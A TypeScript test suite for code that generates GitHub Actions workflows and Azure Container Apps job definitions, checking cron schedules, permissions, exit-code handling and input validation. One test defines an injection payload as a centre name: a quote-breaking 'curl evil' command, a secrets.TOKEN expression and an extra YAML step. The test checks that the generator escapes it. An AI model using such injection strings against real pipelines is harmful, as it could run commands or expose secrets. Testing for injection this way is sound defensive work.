import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { describe, it } from 'node:test';
import { parseDocument } from 'yaml';
import { containerAppsJob } from '../../../src/core/runners/containerAppsJob.ts';
import { cronOf } from '../../../src/core/runners/cron.ts';
import { githubWorkflow } from '../../../src/core/runners/githubActions.ts';
import type { RunnerSpec } from '../../../src/core/runners/runnerSpec.ts';
import { EXIT } from '../../../src/cli/exitCodes.ts';
import { PARTIAL } from '../../../src/core/runners/runnerSpec.ts';
import { NO_SHELL } from '../../harness/system.ts';
import { CENTRES, definition } from './definitions.ts';

const spec = (more: Partial<RunnerSpec> = {}): RunnerSpec => ({
  rollups: [definition()],
  centres: CENTRES,
  all: true,
  version: '1.2.3',
  ...more,
});

/** Runs a script in which `node` and `tenantscope` end with these codes, one after the other. */
function inShell(script: string, codes: readonly number[], env: Record<string, string> = {}) {
  const next = `n=0\nstep() { n=$((n+1)); set -- ${codes.join(' ')}; shift $((n-1)); return $1; }\n`;
  const programs = 'node() { step; }\ntenantscope() { step; }\naz() { :; }\n';
  const { status, stdout } = spawnSync('sh', ['-e', '-c', `${next}${programs}${script}`], { encoding: 'utf8', env });
  return { status, stdout };
}

describe('a schedule as cron', () => {
  for (const [minutes, cron] of [
    [1, '2-59/5 * * * *'],
    [5, '2-59/5 * * * *'],
    [15, '7-59/15 * * * *'],
    [45, '7-59/30 * * * *'],
    [60, '7 * * * *'],
    [300, '7 */4 * * *'],
    [1_440, '7 3 * * *'],
    [10_080, '7 3 * * *'],
  ] as const)
    it(`${minutes} minutes are ${cron}`, () => {
      assert.equal(cronOf(minutes), cron);
    });
});

describe('the workflow of GitHub Actions', () => {
  interface Workflow {
    readonly on: { readonly schedule: readonly { readonly cron: string }[] };
    readonly permissions: object;
    readonly concurrency: object;
    readonly jobs: {
      readonly rollups: {
        readonly steps: readonly { readonly uses?: string; readonly run?: string; readonly env?: object }[];
      };
    };
  }
  /** What a step runs, without what becomes of its code. */
  const commandOf = (run: string | undefined): string | undefined => run?.split(' || { ended=')[0];
  const read = (text: string): Workflow => {
    const document = parseDocument(text);
    assert.deepEqual(document.errors, []);
    return document.toJS() as Workflow;
  };

  it('runs what is due on the shortest schedule, signs in without a secret, and may read alone', () => {
    const text = githubWorkflow(spec({ rollups: [definition(), definition({ name: 'Often', everyMinutes: 15 })] }));
    const { on, permissions, concurrency, jobs } = read(text);
    assert.deepEqual(on.schedule, [{ cron: '7-59/15 * * * *' }]);
    assert.deepEqual(permissions, { contents: 'read', 'id-token': 'write' });
    assert.deepEqual(concurrency, { group: 'tenantscope-rollups', 'cancel-in-progress': false });
    const runs = jobs.rollups.steps.flatMap(({ run = [] }) => run);
    assert.deepEqual(runs.slice(0, -1), ['npm ci && npm run build']);
    assert.equal(
      commandOf(runs.at(-1)),
      'node program/dist/cli.cjs rollup run --due --json --approve central --approve state',
    );
    assert.doesNotMatch(text, /secrets\./);
  });

  it(
    'warns where a start is partial, fails where it failed, and where the repository wants partial to be that',
    {
      skip: NO_SHELL,
    },
    () => {
      const { run, env } = read(githubWorkflow(spec())).jobs.rollups.steps.at(-1)!;
      assert.deepEqual(env, { FAIL_ON_PARTIAL: '${{ vars.TENANTSCOPE_FAIL_ON_PARTIAL }}' });
      assert.deepEqual(inShell(run!, [0]), { status: 0, stdout: '' });
      assert.deepEqual(inShell(run!, [4]), {
        status: 0,
        stdout: '::warning title=Partial::Not everything that is over is stored. The log says what, and why.\n',
      });
      for (const code of [1, 3, 7, 130]) assert.deepEqual(inShell(run!, [code]), { status: code, stdout: '' });
      assert.deepEqual(inShell(run!, [4], { FAIL_ON_PARTIAL: 'true' }), { status: 4, stdout: '' });
    },
  );

  it('names actions by a commit that is to be put in, never by a tag', () => {
    const { steps } = read(githubWorkflow(spec())).jobs.rollups;
    for (const { uses } of steps) if (uses) assert.match(uses, /@COMMIT-OF-/);
  });

  it('runs chosen roll-ups one by one, each though the one before failed', () => {
    const { steps } = read(githubWorkflow(spec({ rollups: [definition(), definition({ name: 'B' })], all: false })))
      .jobs.rollups;
    assert.deepEqual(
      steps.slice(-2).map(({ run }) => commandOf(run)),
      ['SignIns', 'B'].map(
        (name) => `node program/dist/cli.cjs rollup run ${name} --due --json --approve central --approve state`,
      ),
    );
  });

  it('a hostile name of a centre stays one word of text: no command, no expression, no further line', () => {
    const name = 'x\'; curl evil " ${{ secrets.TOKEN }}\n- run: evil';
    const [first] = CENTRES.centres;
    const centres = { ...CENTRES, centres: [{ ...first!, name }] };
    const workflow = read(githubWorkflow(spec({ centres, rollups: [definition({ sinks: [name] })] })));
    const { run } = workflow.jobs.rollups.steps.at(-1)!;
    // As GitHub evaluates it: what is left of an expression is the text of its opening.
    const shell = run!.replaceAll("${{ '${{' }}", '${{');
    assert.equal(commandOf(shell)!.split('--approve ')[1], `'${name.replace("'", String.raw`'\''`)}' `);
    assert.doesNotMatch(run!, /\$\{\{ secrets/);
    assert.equal(workflow.jobs.rollups.steps.length, 6);
  });
});

describe('the job of Azure Container Apps', () => {
  interface Job {
    readonly parameters: { readonly runners: { readonly defaultValue: number } };
    readonly resources: readonly {
      readonly properties: {
        readonly configuration: { readonly scheduleTriggerConfig: object; readonly replicaTimeout: number };
        readonly template: { readonly containers: readonly { readonly args: readonly string[] }[] };
      };
    }[];
  }
  it('starts as many as share the work, on the schedule, as a managed identity', () => {
    const text = containerAppsJob(spec({ all: false }), 3);
    const { parameters, resources } = JSON.parse(text) as Job;
    assert.equal(parameters.runners.defaultValue, 3);
    const { configuration, template } = resources[0]!.properties;
    assert.deepEqual(configuration.scheduleTriggerConfig, {
      cronExpression: '7 * * * *',
      parallelism: "[parameters('runners')]",
      replicaCompletionCount: "[parameters('runners')]",
    });
    assert.equal(configuration.replicaTimeout, 3_600);
    assert.match(
      template.containers[0]!.args[0]!,
      /\ntenantscope rollup run SignIns --due --json --approve central --approve state \|\| /,
    );
    assert.doesNotMatch(text, /password|secret/i);
    assert.match(text, /partial \(exit code 4: .*counts as succeeded/);
  });

  it('a partial start is no failed execution, and hides none: every roll-up has its turn', { skip: NO_SHELL }, () => {
    const rollups = ['A', 'B', 'C'].map((name) => definition({ name }));
    const job = JSON.parse(containerAppsJob(spec({ rollups, all: false }))) as Job;
    const [script] = job.resources[0]!.properties.template.containers[0]!.args;
    const ended = (...codes: number[]): number | null => inShell(script!, codes).status;
    assert.equal(PARTIAL, EXIT.partial);
    assert.equal(ended(0, 0, 0), 0);
    assert.equal(ended(4, 0, 4), 0);
    assert.equal(ended(7, 4, 4), 7);
    assert.equal(ended(4, 7, 0), 7);
    assert.equal(ended(0, 4, 3), 3);
  });
});

describe('what no passing machine can run is refused by name', () => {
  for (const [what, more, why] of [
    ['a lake', { rollups: [definition({ sinks: ['lake'] })] }, /SignIns is stored in the lake/],
    ['an unknown centre', { rollups: [definition({ sinks: ['other'] })] }, /SignIns is stored in "other", which is no/],
    ['no state', { centres: { centres: CENTRES.centres } }, /where the state of roll-ups is kept is not said/],
  ] as const)
    for (const make of [githubWorkflow, containerAppsJob])
      it(`${make.name}: ${what}`, () => {
        assert.throws(() => make(spec(more)), { code: 'input.runner', message: why });
      });
});
